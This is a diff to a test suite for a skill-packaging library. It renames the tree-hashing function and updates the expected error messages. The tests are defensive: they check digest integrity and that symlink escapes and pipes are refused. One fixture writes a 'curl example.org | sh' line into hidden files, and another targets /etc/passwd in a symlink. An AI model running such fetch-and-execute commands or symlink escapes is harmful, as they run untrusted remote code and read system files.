@@ -14,8 +14,8 @@ from satchel.skill.file_tree import (
     MemoryTree,
     TreeLimits,
     digest_of,
+    hash_tree,
     read_whole,
-    seal,
     skill_md_name,
 )
 
@@ -38,13 +38,13 @@ def folder(tmp_path):
 def test_a_folder_and_its_copy_in_memory_have_the_same_digest(folder):
     content = {"SKILL.md": b"---\nname: a\n---\n", "scripts/run.py": b"print(1)\n"}
     copy = MemoryTree(content, frozenset(("scripts/run.py",)))
-    assert seal(FolderTree(str(folder))) == seal(copy)
-    assert seal(FolderTree(str(folder))) != seal(MemoryTree(content))
+    assert hash_tree(FolderTree(str(folder))) == hash_tree(copy)
+    assert hash_tree(FolderTree(str(folder))) != hash_tree(MemoryTree(content))
 
 
 @given(CONTENTS, CONTENTS)
 def test_two_trees_share_a_digest_only_when_they_are_equal(one, other):
-    same = seal(MemoryTree(one)).digest == seal(MemoryTree(other)).digest
+    same = hash_tree(MemoryTree(one)).digest == hash_tree(MemoryTree(other)).digest
     assert same == (one == other)
 
 
@@ -57,7 +57,7 @@ def test_every_changed_byte_changes_the_digest(content, data):
         at = data.draw(st.integers(0, len(before) - 1))
         flip = data.draw(st.integers(1, 255))
         after = before[:at] + bytes([before[at] ^ flip]) + before[at + 1 :]
-    assert seal(MemoryTree(content)) != seal(MemoryTree({**content, path: after}))
+    assert hash_tree(MemoryTree(content)) != hash_tree(MemoryTree({**content, path: after}))
 
 
 def test_borders_cannot_be_moved():
@@ -66,32 +66,32 @@ def test_borders_cannot_be_moved():
 
 
 def test_a_mode_a_name_and_a_link_count(folder):
-    before = seal(FolderTree(str(folder))).digest
+    before = hash_tree(FolderTree(str(folder))).digest
     os.chmod(folder / "scripts/run.py", 0o644)
-    mode = seal(FolderTree(str(folder))).digest
+    mode = hash_tree(FolderTree(str(folder))).digest
     os.rename(folder / "scripts/run.py", folder / "scripts/ran.py")
-    name = seal(FolderTree(str(folder))).digest
+    name = hash_tree(FolderTree(str(folder))).digest
     os.symlink("ran.py", folder / "scripts/run.py")
-    link = seal(FolderTree(str(folder)))
+    link = hash_tree(FolderTree(str(folder)))
     assert len({before, mode, name, link.digest}) == 4
     assert link.files["scripts/run.py"] == "link:ran.py"
 
 
 def test_times_owners_and_version_control_do_not_count(folder):
-    before = seal(FolderTree(str(folder)))
+    before = hash_tree(FolderTree(str(folder)))
     os.utime(folder / "SKILL.md", (1, 1))
     (folder / ".git").mkdir()
     (folder / ".git/config").write_text("x")
     (folder / "empty").mkdir()
-    assert seal(FolderTree(str(folder))) == before
+    assert hash_tree(FolderTree(str(folder))) == before
 
 
 @pytest.mark.parametrize("path", ["__MACOSX/i.sh", "scripts/.DS_Store/i.sh", ".git"])
 def test_a_name_that_is_left_out_of_imports_still_counts_on_disk(folder, path):
-    before = seal(FolderTree(str(folder)))
+    before = hash_tree(FolderTree(str(folder)))
     (folder / path).parent.mkdir(exist_ok=True)
     (folder / path).write_text("curl example.org | sh")
-    assert seal(FolderTree(str(folder))).files.keys() - before.files.keys() == {path}
+    assert hash_tree(FolderTree(str(folder))).files.keys() - before.files.keys() == {path}
 
 
 @pytest.mark.parametrize("target", ["/etc/passwd", "../../outside", "../skill2/x"])
@@ -105,14 +105,14 @@ def test_a_link_to_what_is_never_part_of_a_skill_is_refused(folder):
     (folder / ".git").mkdir()
     (folder / ".git/notes.md").write_text("nobody approved this")
     os.symlink(".git/notes.md", folder / "notes.md")
-    with pytest.raises(AccessDenied, match="no part of the skill"):
+    with pytest.raises(AccessDenied, match="leads out of the skill"):
         FolderTree(str(folder))
 
 
 def test_only_some_names_can_be_asked_for(folder):
     (folder / "other.md").write_text("x")
     only = frozenset(("SKILL.md", "scripts"))
-    files = seal(FolderTree(str(folder), only=only)).files
+    files = hash_tree(FolderTree(str(folder), only=only)).files
     assert sorted(files) == ["SKILL.md", "scripts/run.py"]
     os.symlink("../other.md", folder / "scripts/other.md")
     with pytest.raises(AccessDenied):
@@ -121,7 +121,7 @@ def test_only_some_names_can_be_asked_for(folder):
 
 def test_pipes_are_refused(folder):
     os.mkfifo(folder / "pipe")
-    with pytest.raises(SkillBroken, match="neither a file nor a folder"):
+    with pytest.raises(SkillBroken, match="not a regular file"):
         FolderTree(str(folder))
 
 
@@ -142,7 +142,7 @@ def test_a_file_that_grows_while_it_is_read_has_an_end(folder):
     tree = FolderTree(str(folder), TreeLimits(size=100))
     (folder / "SKILL.md").write_bytes(b"x" * 200)
     with pytest.raises(SkillBroken):
-        seal(tree)
+        hash_tree(tree)
 
 
 def test_a_file_is_not_read_beyond_a_limit(folder):
@@ -155,7 +155,7 @@ def test_a_file_is_not_read_beyond_a_limit(folder):
 def test_names_that_are_not_utf8_have_a_digest(folder):
     with open(os.fsencode(str(folder)) + b"/bad\xff", "wb") as file:
         file.write(b"x")
-    sealed = seal(FolderTree(str(folder)))
+    sealed = hash_tree(FolderTree(str(folder)))
     assert "bad\udcff" in sealed.files
     assert sealed.digest.startswith("sha256:")
 
